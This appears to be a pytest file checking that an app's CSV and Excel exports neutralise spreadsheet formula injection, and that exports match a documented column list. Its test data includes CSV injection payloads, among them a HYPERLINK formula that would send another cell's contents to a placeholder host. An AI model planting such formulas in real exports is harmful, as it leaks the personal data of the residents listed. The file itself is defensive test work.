"""Exports people open in Excel are inert: no text cell becomes a formula (OWASP CSV injection)."""
import csv
import io

import pytest
from openpyxl import load_workbook

from fieldapp.exports import csv_bytes, xlsx_bytes
from fieldapp.models import Role
from tests.factories import make_household, make_person, make_session, make_user

FORMULA = '=HYPERLINK("http://x/?q="&B2,"Xem")'
TRIGGERED = [FORMULA, "+84912345678", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1"]


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8").lstrip("\ufeff"))))


def _cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", TRIGGERED)
def test_a_csv_text_cell_that_starts_a_formula_gets_an_apostrophe(text):
    rows = _csv_rows(csv_bytes(["Họ và tên"], [[text]]))
    assert rows[1] == ["'" + text]


def test_csv_keeps_ordinary_text_and_numbers_as_they_are():
    rows = _csv_rows(csv_bytes(["a", "b", "c"], [["Nguyễn Thị Hoà", -5, "Xóm 3 - Hùng Châu"]]))
    assert rows[1] == ["Nguyễn Thị Hoà", "-5", "Xóm 3 - Hùng Châu"]


def test_xlsx_text_cells_are_strings_never_formulas():
    cells = _cells(xlsx_bytes("Danh sách", ["Họ và tên", "Năm sinh"], [[text, 1950] for text in TRIGGERED]))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # (XML reads a carriage return back as a line feed: the text is kept, as text)
    assert [cell.value for cell in cells if cell.column == 1][1:] == [t.replace("\r", "\n") for t in TRIGGERED]
    assert {cell.value for cell in cells if cell.column == 2} == {"Năm sinh", 1950}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_resident_named_as_a_formula_comes_out_inert_in_the_official_list(client, login, fmt):
    officer = make_user(role=Role.commune_officer)
    headers = login(officer)
    person = make_person(household=make_household(), full_name=FORMULA)
    session = make_session(topics=("online_safety",))
    added = client.post(f"/api/v1/sessions/{session.public_id}/attendees", headers=headers,
                        json={"person_id": person.public_id})
    assert added.status_code == 201, added.get_json()
    exported = client.get("/api/v1/support-records", headers=headers,
                          query_string={"format": fmt, "village_id": person.village_id})
    assert exported.status_code == 200
    if fmt == "csv":
        names = [row[1] for row in _csv_rows(exported.get_data())[1:]]
        assert names == ["'" + FORMULA]
    else:
        cells = _cells(exported.get_data())
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert FORMULA in [cell.value for cell in cells if cell.column == 2]


def test_an_exported_list_is_what_exports_md_says(client, login):
    """The document's column list against a real export, read as a client would: BOM, CR LF, the
    headers in order, the Vietnamese names, and the date in Vietnam's time."""
    import re
    from pathlib import Path

    from fieldapp.clock import VIETNAM

    doc = (Path(__file__).parents[1] / "mobile_contract" / "exports.md").read_text(encoding="utf-8")
    columns = re.findall(r"^\| \d+ \| `([^`]+)` \|", doc, re.M)
    headers = login(make_user(role=Role.commune_officer))
    person = make_person(household=make_household(), full_name="Lê Thị Hồng", birth_year=1958)
    session = make_session(topics=("online_safety",))
    assert client.post(f"/api/v1/sessions/{session.public_id}/attendees", headers=headers,
                       json={"person_id": person.public_id}).status_code == 201
    exported = client.get("/api/v1/support-records", headers=headers,
                          query_string={"format": "csv", "village_id": person.village_id}).get_data()
    assert exported.startswith(b"\xef\xbb\xbf") and exported.endswith(b"\r\n")
    header, row = _csv_rows(exported)
    assert header == columns and len(columns) == 14
    cell = dict(zip(columns, row, strict=True))
    assert (cell["Mã tổ chức được hỗ trợ"], cell["Tên tổ chức được hỗ trợ"]) == ("", "")  # for herself
    assert (cell["Họ và tên"], cell["Năm sinh"], cell["Mã người dân"]) == ("Lê Thị Hồng", "1958", person.public_id)
    assert cell["Kỹ năng được hỗ trợ"] in doc and "| `online_safety` | " + cell["Kỹ năng được hỗ trợ"] + " |" in doc
    assert "| `session` | " + cell["Hình thức"] + " |" in doc and "| `none` | " + cell["Minh chứng"] + " |" in doc
    assert cell["Thời gian hỗ trợ"] == session.starts_at.astimezone(VIETNAM).strftime("%d/%m/%Y %H:%M")
